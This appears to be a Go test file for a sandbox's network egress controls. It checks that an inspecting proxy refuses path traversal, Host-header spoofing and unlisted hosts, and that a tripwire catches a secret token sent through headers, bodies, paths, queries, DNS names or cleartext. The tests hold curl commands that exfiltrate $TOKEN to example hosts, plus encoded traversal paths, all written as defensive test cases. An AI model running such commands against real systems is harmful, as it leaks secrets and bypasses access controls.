@@ -1,0 +1,116 @@
+package egress
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"palyra/conformance/world"
+	"palyra/isolate/evidence"
+)
+
+// TestInspected: of an inspected host a call reaches what its rules say, and the receipt has each
+// request; another host isn't looked into.
+func TestInspected(t *testing.T) {
+	b := begun(t)
+	if err := b.w.MakeRepository(); err != nil {
+		t.Fatal(err)
+	}
+	for _, n := range []string{"git.example", "packages.example", "other.example", "wrong.example"} {
+		b.w.Set(n, world.Addrs(world.Web, world.Web6))
+	}
+	// The status of each answer, and the issuer of the certificate that curl was shown.
+	ask := []string{"curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{certs}"}
+	const flags = "GET,HEAD packages.example:443/simple/"
+	for _, c := range []struct {
+		name   string
+		args   []string
+		status string // "" for no answer
+		passes bool
+	}{
+		{"allowed", []string{"https://packages.example/simple/fromworld/"}, "200", true},
+		{"HTTP/1.1", []string{"--http1.1", "https://packages.example/simple/fromworld/"}, "200", true},
+		{"another method", []string{"-d", "x", "https://packages.example/simple/fromworld/"}, "403", false},
+		{"another path", []string{"https://packages.example/repo.git/HEAD"}, "403", false},
+		{"a path that leads out", []string{"--path-as-is", "https://packages.example/simple/../repo.git/HEAD"}, "", false},
+		{"the same in disguise", []string{"--path-as-is", "https://packages.example/simple/%2e%2e/repo.git/HEAD"}, "", false},
+		{"another host's name", []string{"-H", "Host: git.example", "https://packages.example/simple/"}, "", false},
+		{"no TLS", []string{"http://packages.example:443/simple/"}, "", false},
+		{"a host that can't show who it is", []string{"https://wrong.example/"}, "", false},
+		{"a host that isn't inspected", []string{"https://git.example/repo.git/HEAD"}, "200", true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := b.in(t)
+			before := len(b.w.Requests())
+			r := b.exec([]string{"git.example"}, []string{"--inspect", flags, "--inspect", "wrong.example:443"}, append(slices.Clone(ask), c.args...)...)
+			arrived := b.w.Requests()[before:]
+			status, certs, _ := strings.Cut(r.stdout, " ")
+			if c.passes != (len(arrived) == 1) || c.status != "" && status != c.status || status == "200" && !c.passes {
+				t.Errorf("arrived %+v; %s", arrived, r)
+			}
+			inspected := strings.Contains(strings.Join(c.args, " "), "packages.example")
+			if c.passes && inspected == strings.Contains(certs, "the world's authority") {
+				t.Errorf("the certificate: %s", certs)
+			}
+			if n := len(r.egress.Requests); (c.passes && inspected || c.status == "403") && (n != 1 || r.egress.Requests[0].Refused == c.passes || r.egress.Requests[0].Host != "packages.example") {
+				t.Errorf("requests of the receipt: %s", r)
+			}
+		})
+	}
+}
+
+// TestTripwire: a placeholder that is sent anywhere but to its place ends the call, and the receipt
+// says where it was going. Neither it nor the token gets there.
+func TestTripwire(t *testing.T) {
+	b := begun(t)
+	b.registered()
+	for _, c := range []struct {
+		name, send string
+		more       []string
+		leak       evidence.Leak
+	}{
+		{"another header", `curl -sS -H "X-Token: $TOKEN" https://packages.example/private/echo`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakHeader}},
+		{"the body", `curl -sS -d "token=$TOKEN" https://packages.example/sum`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakBody}},
+		{"the path", `curl -sS "https://packages.example/$TOKEN"`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakPath}},
+		{"the query", `curl -sS "https://packages.example/?token=$TOKEN"`, nil, evidence.Leak{Host: "packages.example", Port: 443, Where: evidence.LeakQuery}},
+		{"another host", `curl -sS -H "Authorization: Bearer $TOKEN" https://other.example/`, []string{"--inspect", "other.example:443"}, evidence.Leak{Host: "other.example", Port: 443, Where: evidence.LeakHeader}},
+		{"a name", `curl -sS "https://$TOKEN.packages.example/"`, nil, evidence.Leak{Where: evidence.LeakDNS}},
+		{"the clear", `curl -sS -H "X-Token: $TOKEN" http://other.example/`, []string{"--egress", "other.example:80"}, evidence.Leak{Host: "other.example", Port: 80, Where: evidence.LeakClear}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := b.in(t)
+			before := len(b.w.Requests())
+			r, ws := b.with(c.more, "printenv TOKEN >token.txt; "+c.send+"; tail -f /dev/null")
+			if r.outcome != "failed" || r.status == 0 || !strings.Contains(r.stderr, "placeholder") {
+				t.Error(r)
+			}
+			leaked := slices.ContainsFunc(r.egress.Leaks, func(l evidence.Leak) bool {
+				return l.Name == "TOKEN" && l.Where == c.leak.Where && (c.leak.Host == "" || l.Host == c.leak.Host && l.Port == c.leak.Port)
+			})
+			if !leaked {
+				t.Errorf("leaks %+v, want %+v", r.egress.Leaks, c.leak)
+			}
+			p, err := os.ReadFile(filepath.Join(ws, "token.txt"))
+			placeholder := strings.TrimSpace(string(p))
+			if err != nil || len(placeholder) < 40 {
+				t.Errorf("the placeholder is %q, %v", placeholder, err)
+			}
+			for _, q := range b.w.Requests()[before:] {
+				// The head of a request is on its way before its body comes.
+				if text := fmt.Sprintf("%+v", q); c.leak.Where != evidence.LeakBody || strings.Contains(text, placeholder) || strings.Contains(text, token) {
+					t.Errorf("arrived %s", text)
+				}
+			}
+			if q := b.w.Queries("packages.example"); slices.ContainsFunc(q, func(q world.Query) bool { return q.Name != "packages.example" }) {
+				t.Errorf("asked %v", q)
+			}
+		})
+	}
+	// It isn't there without the secret, nor for a host that the use doesn't name.
+	if r := b.exec([]string{"packages.example"}, nil, "sh", "-c", "printenv TOKEN"); r.status != 1 || r.stdout != "" {
+		t.Error(r)
+	}
+}
